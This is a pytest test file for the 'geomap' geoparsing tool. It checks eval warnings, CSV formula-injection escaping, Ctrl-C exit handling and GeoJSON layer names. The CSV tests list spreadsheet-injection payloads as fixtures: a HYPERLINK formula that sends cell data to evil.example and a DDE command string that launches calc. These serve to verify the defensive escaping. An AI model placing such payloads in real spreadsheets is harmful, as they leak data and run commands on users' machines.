"""The smaller items of the battery: eval on a corpus without gold toponyms warns; CSV cells
cannot become spreadsheet formulas; Ctrl-C is one line and status 130; GeoJSON layers are named
after the final file, not the temporary one."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import time
import types
from pathlib import Path

import geopandas as gpd
import pandas as pd
import pytest
from shapely.geometry import Point

from geomap.io.export import csv_safe, csv_unsafe, read_frame, write_frame
from tests.cli_app import run_cli as run

ROOT = Path(__file__).resolve().parents[2]
SAMPLE = ROOT / "data" / "samples" / "us-boosting-iraq-base.txt"


# -- eval without gold ----------------------------------------------------------------------------
class NoPlaces:
    @classmethod
    def load(cls, model=None):
        return cls()

    def mentions_many(self, texts, published):
        return [[] for _ in texts]

    def resolve_spans(self, text, spans, published=None):
        return []


@pytest.fixture
def fake_pipeline(monkeypatch):
    fake = types.ModuleType("geomap.pipeline")
    fake.Geoparser = NoPlaces
    monkeypatch.setitem(sys.modules, "geomap.pipeline", fake)


def corpus(tmp_path, toponyms) -> Path:
    path = tmp_path / "gold.jsonl"
    rows = [{"id": f"d{i}", "text": "Rockets struck Baghdad on Monday.", "toponyms": toponyms} for i in range(3)]
    path.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    return path


def test_eval_without_gold_toponyms_warns(tmp_path, capsys, fake_pipeline):
    code, out, err = run(capsys, "eval", corpus(tmp_path, []), "--no-progress")
    assert code == 0, err
    lines = [line for line in err.splitlines() if line.startswith("warning: ")]
    assert len(lines) == 1 and "no gold toponyms" in lines[0] and "0 of 0" in lines[0], err


def test_eval_without_coordinates_warns_about_resolution(tmp_path, capsys, fake_pipeline):
    path = corpus(tmp_path, [{"start": 15, "end": 22, "name": "Baghdad"}])
    code, _, err = run(capsys, "eval", path, "--no-progress", "--gold-spans")
    assert code == 0, err
    assert "warning: " in err and "no gold toponym has coordinates" in err


def test_eval_with_gold_does_not_warn(tmp_path, capsys, fake_pipeline):
    path = corpus(tmp_path, [{"start": 15, "end": 22, "name": "Baghdad", "lat": 33.3, "lon": 44.4}])
    code, _, err = run(capsys, "eval", path, "--no-progress")
    assert code == 0 and "warning" not in err, err


# -- CSV injection --------------------------------------------------------------------------------
DANGEROUS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "'=already quoted",
    "''@twice",
]


@pytest.mark.parametrize("text", DANGEROUS + ["plain", "", "'just a quote", "a=b", "Baghdad -1"])
def test_csv_safe_round_trips(text):
    safe = csv_safe(text)
    assert not safe.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert csv_unsafe(safe) == text


def test_csv_export_neutralises_formulas_and_reads_back(tmp_path):
    gdf = gpd.GeoDataFrame(
        {"title": DANGEROUS, "lat": [-33.5] * len(DANGEROUS), "n": list(range(len(DANGEROUS)))},
        geometry=[Point(-70.1, -33.5)] * len(DANGEROUS),
        crs="EPSG:4326",
    )
    path = write_frame(gdf, tmp_path / "e.csv")
    raw = pd.read_csv(path, dtype=str, keep_default_na=False)
    for cell in raw["title"]:
        assert cell.startswith("'"), cell
    assert set(raw["lat"]) == {"-33.5"}  # numbers stay numbers
    back = read_frame(path)
    assert list(back["title"]) == DANGEROUS


# -- Ctrl-C ---------------------------------------------------------------------------------------
def test_keyboard_interrupt_in_a_command_is_one_line_and_130(tmp_path, capsys, monkeypatch):
    def interrupted(*a, **k):
        raise KeyboardInterrupt

    monkeypatch.setattr("geomap.cli.map_cmd.load_documents", interrupted)
    out_file = tmp_path / "map.html"
    out_file.write_bytes(b"old")
    code, _, err = run(capsys, "map", SAMPLE, "-o", out_file)
    assert code == 130
    assert err.strip() == "error: interrupted"
    assert out_file.read_bytes() == b"old"


SIGINT_SELF = """
import os, signal, sys, time
import geomap.cli.map_cmd as common

def load_documents(*a, **k):
    os.kill(os.getpid(), signal.SIGINT)
    time.sleep(30)

common.load_documents = load_documents
from geomap.cli.main import main
main(sys.argv[1:])
"""


@pytest.mark.slow
def test_sigint_in_a_real_process(tmp_path):
    out_file = tmp_path / "map.html"
    out_file.write_bytes(b"old")
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    proc = subprocess.run(
        [sys.executable, "-c", SIGINT_SELF, "map", str(SAMPLE), "-o", str(out_file)],
        capture_output=True,
        text=True,
        env=env,
        timeout=120,
    )
    assert proc.returncode == 130, proc.stderr
    assert proc.stderr.strip() == "error: interrupted"
    assert out_file.read_bytes() == b"old" and sorted(p.name for p in tmp_path.iterdir()) == ["map.html"]


def _loaded(pid: int, library: str) -> bool:
    try:
        return library in Path(f"/proc/{pid}/maps").read_text()
    except OSError:
        return False


@pytest.mark.skipif(not Path("/proc/self/maps").exists(), reason="needs /proc to see what the process loaded")
def test_sigint_while_the_command_line_imports(tmp_path):
    """Ctrl-C while ``python -m geomap`` is still importing spaCy: one line and 130, no traceback.

    The signal is sent once numpy's library is mapped: nothing before the command line's heavy
    imports loads it, and spaCy, geopandas and the commands take far longer to import after it.
    """
    out_file = tmp_path / "map.html"
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    proc = subprocess.Popen(
        [sys.executable, "-m", "geomap", "map", str(SAMPLE), "-o", str(out_file)],
        cwd=ROOT,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env=env,
    )
    deadline = time.monotonic() + 60
    while not _loaded(proc.pid, "numpy") and proc.poll() is None and time.monotonic() < deadline:
        time.sleep(0.005)
    proc.send_signal(signal.SIGINT)
    out, err = proc.communicate(timeout=120)
    assert proc.returncode == 130, err
    assert err.strip() == "error: interrupted" and "Traceback" not in out + err
    assert not out_file.exists()


def test_the_console_script_is_the_entry_wrapper():
    import tomllib

    scripts = tomllib.loads((ROOT / "pyproject.toml").read_text(encoding="utf-8"))["project"]["scripts"]
    assert scripts["geomap"] == "geomap.cli.entry:main"
    assert "geomap.cli.entry" in (ROOT / "geomap" / "__main__.py").read_text(encoding="utf-8")


def test_import_geomap_is_light():
    """The public names load on first use: ``import geomap`` pulls in neither spaCy nor pandas."""
    code = "import sys, geomap; print(sorted(m for m in ('spacy', 'pandas', 'geopandas', 'typer') if m in sys.modules))"
    proc = subprocess.run(
        [sys.executable, "-c", code],
        capture_output=True,
        text=True,
        env={**os.environ, "PYTHONPATH": str(ROOT)},
        timeout=120,
    )
    assert proc.returncode == 0 and proc.stdout.strip() == "[]", proc.stdout + proc.stderr
    import geomap

    assert geomap.Place.__module__ == "geomap.records" and callable(geomap.extract)
    with pytest.raises(AttributeError):
        geomap.no_such_name  # noqa: B018


# -- layer names ----------------------------------------------------------------------------------
def test_geojson_name_and_gpkg_layer_follow_the_final_file(tmp_path):
    gdf = gpd.GeoDataFrame({"a": ["x"]}, geometry=[Point(44.4, 33.3)], crs="EPSG:4326")
    write_frame(gdf, tmp_path / "ev.geojson")
    assert json.loads((tmp_path / "ev.geojson").read_text(encoding="utf-8"))["name"] == "ev"
    import pyogrio

    write_frame(gdf, tmp_path / "events 2020.gpkg")
    assert [name for name, _ in pyogrio.list_layers(tmp_path / "events 2020.gpkg")] == ["events 2020"]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["ev.geojson", "events 2020.gpkg"]


def test_map_events_geojson_is_named_after_the_final_file(tmp_path, capsys):
    code, _, err = run(capsys, "map", SAMPLE, "-q", "-o", tmp_path / "map.html", "--events", tmp_path / "ev.geojson")
    assert code == 0, err
    assert json.loads((tmp_path / "ev.geojson").read_text(encoding="utf-8"))["name"] == "ev"
